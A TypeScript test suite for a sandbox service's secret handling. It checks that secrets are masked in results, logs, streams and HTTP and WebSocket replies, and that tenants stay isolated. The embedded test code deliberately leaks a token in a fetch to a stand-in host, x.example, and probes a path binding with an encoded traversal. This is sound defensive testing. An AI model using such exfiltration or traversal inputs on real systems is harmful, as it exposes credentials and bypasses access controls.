/** Tests secrets in real sandboxes: what code finds, and what answers, streams and logs show. */
import { once } from "node:events";
import { writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:https";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { WebSocket } from "ws";
import { createClient } from "../../src/client/client.ts";
import { until } from "../contract/engine-contract.ts";
import { TestAuthority } from "../helpers/certificates.ts";
import { Cleanup, directory, listenLocally } from "../helpers/egress.ts";
import { TestServer } from "../helpers/server.ts";
import { OPERATOR_KEY, tenantOf } from "../helpers/tenant-of.ts";

const VALUE = 'sk-live-0123456789/"quoted"';
const MULTILINE = `-----BEGIN KEY-----\n${"q7".repeat(32)}\n${"Zx".repeat(32)}\n-----END KEY-----\n`;

let server: TestServer;
let client: ReturnType<typeof createClient>;
let other: ReturnType<typeof createClient>;
/** A host that answers with the request's headers, and its address. */
let bound: Server;
let host: string;
const cleanup = new Cleanup();
beforeAll(async () => {
  const authority = new TestAuthority();
  const ca = join(await directory(cleanup), "ca.pem");
  await writeFile(ca, authority.certificate);
  bound = createServer(authority.identity("up.example"), ({ headers, url }, response) => {
    response.setHeader("x-echo", headers["x-api-key"] ?? "none");
    response.end(JSON.stringify([url, headers["x-api-key"]]));
  });
  host = `up.example:${await listenLocally(bound)}`;
  server = await TestServer.start({
    ISOLATE_SECRET_KEY: "5e".repeat(32),
    ISOLATE_KEEP_LOGS: "true",
    ISOLATE_ADMIN_KEY: OPERATOR_KEY,
    ISOLATE_EGRESS_CA: ca,
    ISOLATE_EGRESS_HOSTS: '{"up.example":"127.0.0.1"}',
    ISOLATE_EGRESS_PRIVATE: host,
  });
  const levels = { sandbox: ["container", "isolated"] };
  client = createClient({ url: server.url, key: (await tenantOf(server, "acme", levels)).key });
  other = createClient({ url: server.url, key: (await tenantOf(server, "other")).key });
  await client.secrets.put("TOKEN", VALUE);
  await client.secrets.put("PEM", MULTILINE);
});
afterAll(async () => {
  expect(await server.dispose()).toEqual([]);
  bound.close();
  await cleanup.run();
});

/** Lists what is left of a value in a text. */
const leaks = (text: string): string[] =>
  ["sk-live-012", "0123456789", "q7".repeat(32), "Zx".repeat(32)].filter((part) =>
    text.includes(part),
  );

const SHOUTS = `
import { inspect } from "node:util";
export default async (fails) => {
  const { TOKEN, PEM } = process.env;
  console.log("token", TOKEN, { TOKEN, PEM });
  console.error(new Error("of the log: " + TOKEN));
  process.stdout.write("written " + PEM);
  await fetch("http://" + "x.example/?q=" + encodeURIComponent(TOKEN)).catch((error) => console.log(error));
  if (fails) throw Object.assign(new Error("bad " + TOKEN, { cause: new Error(TOKEN) }), { code: TOKEN });
  return {
    is: [TOKEN.length, Deno.env.get("PEM").length], TOKEN, [TOKEN]: 1,
    json: JSON.stringify({ TOKEN }), basic: btoa("user:" + TOKEN), shown: inspect({ PEM }),
    url: new URL("http://x.example/?" + new URLSearchParams({ TOKEN })).href,
  };
};`;

it.each(["container", "isolated"] as const)(
  "are variables of the code at level %s, and masked in all that it answers",
  async (sandbox) => {
    const asked = { code: SHOUTS, secrets: ["TOKEN", "PEM"], sandbox, explain: true };
    const output = await client.execute(asked);
    expect(output).toMatchObject({
      ok: true,
      result: { is: [VALUE.length, MULTILINE.length], TOKEN: "***", "***": 1 },
      plan: { env: ["PEM", "TOKEN"] },
    });
    expect(output.logs?.[0]?.message).toContain("token ***");
    expect(leaks(JSON.stringify(output))).toEqual([]);
    const failed = await client.execute({ ...asked, input: true });
    expect(failed.logs?.at(-1)).toMatchObject({
      level: "exception",
      message: "bad ***",
      cause: { message: "***" },
      details: { code: "***" },
    });
    expect(leaks(JSON.stringify(failed))).toEqual([]);
    const events: unknown[] = [];
    for await (const event of client.stream(asked)) events.push(event);
    expect(JSON.stringify(events)).toContain("token ***");
    expect(leaks(JSON.stringify(events))).toEqual([]);
    const kept = async () => JSON.stringify(await client.executionLogs(failed.id));
    await until(async () => (await kept()).includes("bad ***"));
    expect(leaks(await kept())).toEqual([]);
    expect(leaks(server.log + server.printed)).toEqual([]);
  },
);

it("are there for the execution that names them alone, in their newest versions", async () => {
  const code = "let calls = 0; export default () => [++calls, process.env.NEW?.length ?? null]";
  await client.secrets.put("NEW", "first value");
  const reused = { code, reuse: "tenant" } as const;
  expect((await client.execute({ ...reused, secrets: ["NEW"] })).result).toEqual([1, 11]);
  expect((await client.execute(reused)).result).toEqual([1, null]);
  await client.functions.deploy("newest", { code, secrets: ["NEW"] });
  const call = async () => (await client.functions.invoke("newest")).result;
  expect([await call(), await call()]).toEqual([
    [1, 11],
    [2, 11],
  ]);
  expect(await client.secrets.put("NEW", "a second value")).toMatchObject({ version: 2 });
  expect(await call()).toEqual([1, 14]);
  await client.secrets.delete("NEW");
  await expect(call()).rejects.toMatchObject({ code: "SECRET_NOT_FOUND", field: "secrets[0]" });
});

it("are masked in an HTTP function's headers, parts of its body and messages", async () => {
  const code = `export default (request) => {
    const { TOKEN } = process.env;
    if (request.headers.get("upgrade") === "websocket") {
      const { socket, response } = Deno.upgradeWebSocket(request);
      socket.onmessage = ({ data }) => { socket.send(data + TOKEN); socket.close(4000, TOKEN); };
      return response;
    }
    const type = new URL(request.url).searchParams.get("type");
    const parts = ["<p>" + TOKEN.slice(0, 5), TOKEN.slice(5) + "</p>", TOKEN.slice(0, 4)];
    const body = type ? TOKEN : ReadableStream.from(parts).pipeThrough(new TextEncoderStream());
    return new Response(body, { headers: { "content-type": type ?? "text/html", "x-token": "Bearer " + TOKEN } });
  }`;
  await client.functions.deploy("site", { code, kind: "http", public: true, secrets: ["TOKEN"] });
  const url = `${server.url}/f/acme/site`;
  const page = await fetch(url);
  expect(page.headers.get("x-token")).toBe("Bearer ***");
  expect(await page.text()).toBe(`<p>***</p>${VALUE.slice(0, 4)}`);
  const json = await fetch(`${url}?type=application/json`);
  expect([json.headers.get("content-length"), await json.text()]).toEqual([null, "***"]);
  const image = await fetch(`${url}?type=image/png`);
  expect([image.headers.get("content-length"), await image.text()]).toEqual(["27", VALUE]);
  const socket = new WebSocket(url.replace("http", "ws"));
  await once(socket, "open");
  socket.send("token ");
  const [[message], [status, reason]] = await Promise.all([
    once(socket, "message"),
    once(socket, "close"),
  ]);
  expect([`${message}`, status, `${reason}`]).toEqual(["token ***", 4000, "***"]);
});

it("stay outside of the sandbox with a binding, and are found by no other tenant", async () => {
  await client.secrets.put("BOUND", "sk-bound-0123456789");
  const code = `export default async (host) => {
    const answers = [];
    for (const path of ["/v1/a", "/v2/a", "/v1/..%2fv2/a"]) {
      const response = await fetch("https://" + host + path, { headers: { "x-api-key": "placeholder" } });
      const text = await response.text();
      answers.push([response.status, response.headers.get("x-echo"), text, text.split("").join(" ")]);
    }
    return { answers, env: Object.keys(process.env).filter((name) => name === "BOUND") };
  }`;
  const binding = { secret: "BOUND", host, header: "X-Api-Key", paths: ["/v1/**"] };
  const deployed = {
    code,
    permissions: { net: [host] },
    bindings: [binding],
    sandbox: "container" as const,
    timeout: 30_000,
  };
  await client.functions.deploy("bound", deployed);
  const invoked = await client.functions.invoke("bound", { input: host });
  expect(invoked).toMatchObject({ ok: true });
  const { answers, env } = invoked.result as { answers: unknown[][]; env: string[] };
  const spread = (text: string) => text.split("").join(" ");
  expect(answers).toEqual([
    // The host has got the value: its answer's body shows it to the code, and is masked in the result.
    [200, "***", '["/v1/a","***"]', spread('["/v1/a","sk-bound-0123456789"]')],
    [200, "placeholder", '["/v2/a","placeholder"]', spread('["/v2/a","placeholder"]')],
    [400, null, expect.stringContaining("BINDING_PATH"), expect.anything()],
  ]);
  expect(env).toEqual([]);
  expect(JSON.stringify(await client.plan(deployed))).not.toContain("sk-bound");
  expect(server.log + server.printed).not.toContain("sk-bound-");

  // The same names are no names of another tenant's, for code, bindings and the secret itself.
  const refused = { code: "SECRET_NOT_FOUND" };
  await expect(other.execute({ ...deployed, input: host })).rejects.toMatchObject({
    ...{ ...refused, field: "bindings[0].secret" },
  });
  await expect(other.functions.deploy("bound", deployed)).rejects.toMatchObject(refused);
  const named = { code: "export default () => process.env.BOUND", secrets: ["BOUND"] };
  await expect(other.execute(named)).rejects.toMatchObject({ ...refused, field: "secrets[0]" });
  await expect(other.secrets.get("BOUND")).rejects.toMatchObject(refused);
  await other.secrets.put("BOUND", "sk-other-0123456789");
  const own = await other.execute({ ...deployed, input: host });
  expect((own.result as { answers: string[][] }).answers[0]?.[3]).toContain("s k - o t h e r");
});
